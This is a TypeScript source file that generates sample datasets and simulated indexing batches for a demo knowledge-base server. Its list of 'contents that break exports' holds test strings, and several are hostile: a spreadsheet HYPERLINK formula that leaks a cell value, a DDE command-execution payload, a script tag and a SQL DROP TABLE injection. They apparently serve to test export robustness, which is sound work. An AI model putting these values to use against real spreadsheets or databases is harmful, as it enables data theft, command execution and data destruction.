import { type DemoKnowledge, demoKnowledge } from "../demo-knowledge.js";
import { DocumentStore } from "../document-store.js";
import {
  accounts,
  type Batch,
  builtInFields,
  newDataset,
  type StatusEntry,
  type StoredDataset,
  type StoredDocument,
  sumOf,
} from "../rows.js";
import {
  asOlderServer,
  buildDocument,
  type DatasetOutline,
  datasetId,
  inEveryStatus,
  tooLong,
  withAttachments,
  withEdits,
  withLanguageHint,
  withLinks,
  withNulls,
  withoutSignedCopy,
  withSummaries,
} from "./build-document.js";
import { english, languages, randomFrom, sentences } from "./prose.js";

/**
 * The sample data: about 5,000 chunks and 3,000 child chunks, always the same until something is written or a document is
 * re-indexed. Only the batch in progress changes: it uses the clock and counts the reads of this instance.
 */
export function sampleKnowledge(clock: () => Date): DemoKnowledge {
  const datasets = outlines.map((outline) => buildDataset(outline, clock));
  return demoKnowledge(new DocumentStore(datasets, clock));
}

export function buildDataset(outline: DatasetOutline, clock: () => Date): StoredDataset {
  const documents = outline.documents.map((document) => buildDocument(outline, document));
  const batches = outline.batches.map(({ id, documents: names, underWay }) => {
    const members = documents.filter(({ row }) => names.includes(row.name));
    return underWay ? batchUnderWay(id, members, clock) : restingBatch(id, members);
  });
  const rows = documents.map(({ row }) => row);
  const time = Math.min(...rows.map(({ created_at }) => created_at));
  const { name, description, technique } = outline;
  const row = {
    ...newDataset({ id: datasetId(outline), name, description, technique, time, by: accounts.author }),
    ...{ permission: "all_team_members", data_source_type: "upload_file", document_count: rows.length },
    ...{ word_count: sumOf(rows, "word_count"), doc_form: rows[0]?.doc_form ?? null },
    ...{ doc_metadata: builtInFields, built_in_field_enabled: true },
    total_documents: rows.length,
    total_available_documents: rows.filter(({ error }) => error === null).length,
  };
  return { row, documents, batches };
}

const policy = { form: "text_model", topic: "policy" } as const;

/** The second dataset: plain text only, long and short documents, older rows, and a failed import. */
const companyHandbook: DatasetOutline = {
  name: "Company handbook",
  description: "Rules for work, leave and travel, in the languages of all offices.",
  technique: "economy",
  documents: [
    { ...policy, name: "Employee handbook.docx", chunkCount: 1180, peculiarities: [withEdits] },
    { ...policy, name: "Travel and expenses.pdf", chunkCount: 300 },
    { ...policy, name: "Announcements.txt", chunkCount: 0 },
    {
      ...{ ...policy, name: "Handbook of 2019.docx", languages: [english], chunkCount: 250 },
      peculiarities: [withNulls, asOlderServer],
    },
    { ...policy, name: "Works agreements.pdf", chunkCount: 200, fractionalTimes: true },
    { ...policy, name: "Interrupted import.csv", chunkCount: 64, peculiarities: [inEveryStatus], error: tooLong },
  ],
  batches: [
    {
      id: "20250602093000654321",
      documents: ["Employee handbook.docx", "Travel and expenses.pdf"],
      underWay: true,
    },
    { id: "import/März 2025 #3? 100%", documents: ["Announcements.txt", "Interrupted import.csv"], underWay: false },
  ],
};

const oddTexts = oddContents();
const guideChildren = [250, 101, 100, 1, 0];
const languageTag = (number: number) => languages[(number - 1) % languages.length]?.tag ?? english.tag;
const hierarchical = { form: "hierarchical_model", topic: "product" } as const;

/** The first dataset: every document form, both kinds of parents, and contents that break exports. */
export const productKnowledge: DatasetOutline = {
  name: "Product knowledge",
  description: "Manuals, release notes and support answers for the heating control system.",
  technique: "high_quality",
  documents: [
    {
      ...{ ...hierarchical, name: "Administrator guide.docx", chunkCount: 600, embedsChildren: true },
      childCount: (number) => guideChildren[number - 1] ?? number % 4,
      peculiarities: [withLinks, withSummaries],
    },
    {
      ...{ ...hierarchical, name: "User manual.pdf", chunkCount: 740, embedsChildren: true },
      childCount: (number) => number % 3,
      peculiarities: [withAttachments, withEdits, withLanguageHint(languageTag)],
    },
    { ...hierarchical, name: "Release notes.md", languages: [english], chunkCount: 1, childCount: () => 250 },
    {
      ...{ ...hierarchical, name: "Installation leaflets.pdf", chunkCount: 40 },
      childCount: (number) => number % 25,
      peculiarities: [withLinks],
    },
    {
      ...{ name: "Answers of the support team.csv", form: "qa_model", topic: "support", chunkCount: 900 },
      peculiarities: [withoutSignedCopy, withEdits],
    },
    {
      ...{ name: "Troubleshooting.md", form: "text_model", topic: "product", chunkCount: 700 },
      childCount: (number) => (number % 10 === 0 ? 2 : 0),
      peculiarities: [withLinks, withAttachments, withSummaries, withNulls],
    },
    {
      ...{ ...hierarchical, name: "Contents that break exports.txt", languages: [english], embedsChildren: true },
      ...{ chunkCount: oddTexts.length, texts: oddTexts, childCount: () => 1 },
    },
  ],
  batches: [
    {
      id: "20250306120000123456",
      documents: ["Administrator guide.docx", "User manual.pdf", "Release notes.md", "Answers of the support team.csv"],
      underWay: false,
    },
  ],
};

export const outlines: readonly DatasetOutline[] = [productKnowledge, companyHandbook];

/** Contents that break careless exports, all seen in real documents. None contains NUL, which a database would reject. */
export function oddContents(): readonly string[] {
  return [
    "",
    // Line breaks
    "first line\nsecond line\n\nfourth line\n",
    "an old Mac file\rwhere lines end like this\r",
    "a Windows file\r\nwhere lines end like this\r\n",
    "mixed\nends\rof\r\nlines\n\r",
    "a line separator\u2028and a paragraph separator\u2029 that are no line breaks in JSON",
    "a next-line character\u0085 and a form feed\f and a vertical tab\v",
    "\n",
    // Quotes and commas
    'She asked: "Is this the last page?" He said: "No."',
    '"quoted from end to end"',
    '""',
    '"',
    "commas, more commas,, and a last one,",
    'id,name\n1,"Smith, ""Bob"""\n',
    "semicolons; tabs\tand | pipes",
    "it's 'single' `back` and „German“ «French» 「日本語」 quotes",
    "a backslash \\ , an escaped one \\\\ , \\n and \\u0041 written out",
    // Formulas
    "=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1 with a full-width sign",
    // Texts that look like other values
    "null",
    "NULL",
    "\\N",
    "true",
    "007",
    "1e5",
    "12345678901234567890",
    "2025-03-06T13:20:00Z",
    "   spaces before and after   ",
    " ",
    '{"id": null, "data": [1, 2, 3]}',
    "$HOME %PATH% $1 %s {{template}}",
    // Scripts
    "emoji 😀 👍🏽 🏳️‍🌈 🇯🇵 and the family 👨‍👩‍👧‍👦, one sign of seven code points",
    "日本語の文章、中文內容、한국어 문장, and the rare 𠮷 outside the basic plane",
    "\u200fעברית עם \u202bסימני כיוון\u202c ו\u2067בידוד\u2069 בתוך English\u200e",
    "\u200fالعربية 123 مع English داخل السطر\u061c",
    "é as one and e\u0301 as two code points, Å and A\u030a, ﬁ ligature",
    "zero width: joi\u200dner, space\u200b, no-break\u00a0space, soft\u00adhyphen",
    "Z\u0351\u036b\u0343a\u0369\u0321l\u0348\u0333g\u0321\u0353o\u0329\u0327 text",
    // Control characters
    `every control character but NUL: ${codePoints(0x01, 0x1f)}${codePoints(0x7f, 0x9f)}`,
    "\ufeffstarts with a byte order mark",
    "noncharacters \ufffe \uffff and the replacement character \ufffd",
    // Markup
    "# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = `a`;\n```\n",
    "<script>alert('hello')</script> &amp; <b>bold</b> <!-- comment -->",
    "Robert'); DROP TABLE chunks;--",
    "word".repeat(2_000),
    textOf(102_400),
  ];
}

function codePoints(first: number, last: number): string {
  return String.fromCodePoint(...Array.from({ length: last - first + 1 }, (_, index) => first + index));
}

function textOf(characters: number): string {
  const random = randomFrom("a very long chunk");
  return sentences(random, english, "product", characters / 50)
    .join(" ")
    .slice(0, characters);
}

/** A finished batch. Its entries follow from the documents and never change. */
export function restingBatch(id: string, documents: readonly StoredDocument[]): Batch {
  const entries = documents.map(entryOf);
  return { id, entries: () => entries };
}

/** Chunks being replaced are not counted. */
function entryOf({ row, chunks }: StoredDocument): StatusEntry {
  const { id, created_at, error = null } = row;
  const counted = chunks.filter((chunk) => chunk.row.status !== "re_segment");
  return {
    id,
    indexing_status: error === null ? "completed" : "error",
    ...{ processing_started_at: created_at, parsing_completed_at: created_at + 4 },
    ...{ cleaning_completed_at: created_at + 5, splitting_completed_at: created_at + 9 },
    completed_at: error === null ? created_at + 60 : null,
    ...{ paused_at: null, error, stopped_at: error === null ? null : created_at + 30 },
    completed_segments: counted.filter((chunk) => chunk.row.status === "completed").length,
    total_segments: counted.length,
  };
}

const readsToSplit = 5;
const readsToFinish = 20;

/**
 * A batch whose counts grow with each read until it is completed after 20 reads. No count ever decreases. Only the progress is
 * simulated: all chunks exist from the start, so that every dump of them is the same.
 */
export function batchUnderWay(id: string, documents: readonly StoredDocument[], clock: () => Date): Batch {
  const now = (): number => Math.floor(clock().getTime() / 1000);
  const startedAt = now();
  let reads = 0;
  let splitAt: number | null = null;
  let completedAt: number | null = null;
  return {
    id,
    entries() {
      reads = Math.min(reads + 1, readsToFinish);
      if (reads > readsToSplit) splitAt ??= now();
      if (reads === readsToFinish) completedAt ??= now();
      return documents.map(({ row, chunks }) => ({
        ...{ id: row.id, indexing_status: stageAfter(reads), processing_started_at: startedAt },
        ...{ parsing_completed_at: startedAt, cleaning_completed_at: startedAt, splitting_completed_at: splitAt },
        ...{ completed_at: completedAt, paused_at: null, error: null, stopped_at: null },
        completed_segments: Math.floor((chunks.length * reads) / readsToFinish),
        total_segments: Math.ceil((chunks.length * Math.min(reads, readsToSplit)) / readsToSplit),
      }));
    },
  };
}

function stageAfter(reads: number): string {
  if (reads === readsToFinish) return "completed";
  return reads > readsToSplit ? "indexing" : "splitting";
}
